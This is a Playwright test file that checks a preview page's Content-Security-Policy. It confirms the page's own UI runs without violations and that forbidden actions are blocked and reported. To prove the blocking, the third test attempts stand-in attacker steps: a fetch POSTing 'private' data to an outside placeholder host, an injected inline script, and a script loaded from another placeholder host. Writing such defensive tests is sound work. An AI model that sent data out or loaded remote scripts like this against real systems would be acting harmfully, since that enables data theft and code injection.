/**
 * The preview page's Content-Security-Policy in Debian's Chromium: the page and the whole pane work
 * with no violation reported (Fluent UI's style insertion, the suggestion cards, the English UI),
 * while what the policy forbids (a script from another origin, a request to another origin, an
 * inline script) is blocked and reported, so the listener is known to be listening. (eval cannot be
 * tried from here: code that Playwright evaluates is exempt; the policy's text is checked instead.)
 */
import type { Page } from "playwright-core";
import { usePreviewInChromium } from "./preview-in-chromium";

jest.setTimeout(120_000);

const preview = usePreviewInChromium();

interface Watched {
  page: Page;
  violations: () => Promise<string[]>;
  consoleErrors: string[];
}

/** A page whose CSP violations (events) and console errors are recorded from before the first script. */
async function watchedPage(url: string): Promise<Watched> {
  const page = await preview.browser.newPage({ viewport: { width: 1280, height: 800 } });
  const consoleErrors: string[] = [];
  page.on("console", (message) => {
    if (message.type() === "error") consoleErrors.push(message.text());
  });
  page.on("pageerror", (error) => consoleErrors.push(error.message));
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __cspViolations: string[] }).__cspViolations = seen;
    document.addEventListener("securitypolicyviolation", (event) => {
      seen.push(`${event.effectiveDirective} blocked ${event.blockedURI || "(inline)"} at ${event.sourceFile}:${event.lineNumber}`);
    });
  });
  await page.goto(url);
  return {
    page,
    consoleErrors,
    violations: () => page.evaluate(() => [...(window as unknown as { __cspViolations: string[] }).__cspViolations]),
  };
}

test("the preview page carries the policy before anything loads", async () => {
  const response = await fetch(preview.url);
  const html = await response.text();
  const head = html.slice(html.indexOf("<head>"), html.indexOf("</head>"));
  const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(head);
  expect(meta).not.toBeNull();
  const policy = (meta as RegExpExecArray)[1];
  expect(policy).toMatch(/(^|; )script-src 'self'(;|$)/);
  expect(policy).toMatch(/(^|; )connect-src 'self'(;|$)/);
  expect(policy).not.toMatch(/unsafe-eval/);
  // Nothing that loads or runs comes before the policy.
  const before = head.slice(0, head.indexOf("Content-Security-Policy"));
  expect(before).not.toMatch(/<script|<link|<style/);
});

let watched: Watched;

test("the page and the pane run with no violation", async () => {
  watched = await watchedPage(preview.url);
  const { page, violations, consoleErrors } = watched;
  await page.getByTestId("filled-count").waitFor();
  // A case row: the pane renders its cards, chips, menus (each inserts Fluent UI styles).
  await page.locator('[data-cell="F5"]').click();
  await page.getByTestId("case-subject").waitFor();
  await page.locator('[data-role="keywords"]').getByRole("button").first().waitFor();
  // Same-origin requests stay allowed (the engine's dictionary will be fetched like this).
  const status = await page.evaluate(async () => (await fetch("/preview.html")).status);
  expect(status).toBe(200);
  expect(await violations()).toEqual([]);
  expect(consoleErrors.filter((text) => /Content Security Policy|Refused to/i.test(text))).toEqual([]);
});

test("what the policy forbids is blocked and reported", async () => {
  const { page, violations } = watched;
  const outcomes = await page.evaluate(async () => {
    const results: Record<string, string> = {};
    try {
      await fetch("https://consultations.example.invalid/upload", { method: "POST", body: "private" });
      results.fetch = "sent";
    } catch {
      results.fetch = "blocked";
    }
    const inline = document.createElement("script");
    inline.textContent = "window.__inlineRan = true;";
    document.head.append(inline);
    results.inline = (window as unknown as { __inlineRan?: boolean }).__inlineRan ? "ran" : "blocked";
    const external = document.createElement("script");
    external.src = "https://scripts.example.invalid/x.js";
    document.head.append(external);
    await new Promise((resolve) => setTimeout(resolve, 300));
    return results;
  });
  expect(outcomes).toEqual({ fetch: "blocked", inline: "blocked" });
  const seen = (await violations()).join("\n");
  expect(seen).toMatch(/connect-src blocked https:\/\/consultations\.example\.invalid/);
  expect(seen).toMatch(/script-src-elem blocked \(inline\)|script-src-elem blocked inline/);
  expect(seen).toMatch(/script-src-elem blocked https:\/\/scripts\.example\.invalid\/x\.js/);
});
